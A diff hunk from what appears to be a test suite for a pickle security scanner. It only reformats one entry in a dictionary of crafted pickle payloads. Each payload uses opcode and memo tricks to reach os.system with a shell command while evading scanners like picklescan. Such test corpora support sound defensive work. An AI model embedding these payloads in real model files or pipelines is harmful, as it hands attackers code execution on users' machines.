@@ -350,7 +350,8 @@ PICKLES: dict[str, Payload] = {
     "CVE-2025-71325 STACK_GLOBAL from the first byte": lambda s: short("os") + short("system") + b"\x93" + shell(s)
     + b"\x85R.",
     "picklescan-14 memo of BINPUT and MEMOIZE": lambda s: b"\x80\x04" + short("os") + b"q\0" + short("system")
-    + b"q\x01" + short("torch._utils") + b"\x94" + short("_rebuild_tensor_v2") + b"\x94" + b"h\0h\x01\x93" + shell(s) + b"\x85R.",
+    + b"q\x01" + short("torch._utils") + b"\x94" + short("_rebuild_tensor_v2") + b"\x94" + b"h\0h\x01\x93" + shell(s)
+    + b"\x85R.",
     "huntr memo value: MEMOIZE behind BINGET": lambda s: b"\x80\x04" + short("os") + b"\x94h\0\x94" + short("system")
     + b"\x94h\x02\x940000h\x01h\x03\x93" + shell(s) + b"\x85R.",
     "huntr memo poisoned: POP before MEMOIZE": lambda s: b"\x80\x04" + short("os") + b"N0\x94" + short("system")
